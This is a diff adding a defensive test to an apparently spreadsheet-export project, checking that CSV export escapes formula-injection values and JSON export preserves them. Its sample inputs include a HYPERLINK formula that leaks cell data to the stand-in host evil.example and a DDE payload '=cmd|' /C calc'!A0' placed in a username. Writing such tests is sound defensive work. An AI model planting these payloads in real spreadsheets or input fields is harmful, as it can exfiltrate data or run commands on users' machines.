@@ -165,3 +165,38 @@ def test_cli_writes_each_format(db, db_path, journey, tmp_path, capsys):
     assert png.read_bytes().startswith(b"\x89PNG")
     assert main(["export", "--map", "999", "--format", "md", "--db", str(db_path)]) == 1
     assert main(["export", "--map", "1", "--format", "md", "--db", str(tmp_path / "no.db")]) == 2
+
+
+INJECTIONS = (
+    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "+SUM(1,2)",
+    "-2+3 cmd",
+    "@SUM(1)",
+    "\tcalc",
+    "\r=1+1",
+)
+
+
+def test_csv_cells_never_start_a_formula_and_json_keeps_the_text(db):
+    from storage.maps import create_map
+
+    remember_chat(db, -200, "group", "Shop", "en")
+    remember_user(db, 66, "=cmd|' /C calc'!A0", "evil", "en")
+    journey = create_map(db, -200, "=1+1", None, 66, [(k, None) for k in STAGE_KEYS])
+    stage = journey.stages[0]
+    for text in INJECTIONS:
+        add_note(db, -200, journey.id, stage.id, draft(text, "pain_point", stage.key, -0.5), 66)
+    journey = get_map(db, -200, journey.id)
+
+    written = export(db, journey, "csv", "en").data.decode("utf-8-sig")
+    rows = list(csv.DictReader(io.StringIO(written)))
+    texts = [row["text"] for row in rows]
+    for cell in (cell for row in rows for cell in row.values()):
+        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
+        assert not cell.startswith("-") or cell == "-0.5", cell  # numbers stay numbers
+    assert sorted(texts) == sorted("'" + text for text in INJECTIONS)
+    assert {row["author"] for row in rows} == {"'=cmd|' /C calc'!A0"}
+
+    document = json.loads(export(db, journey, "json", "en").data)
+    assert sorted(n["text"] for n in document["map"]["notes"]) == sorted(INJECTIONS)
+    assert document["map"]["name"] == "=1+1"
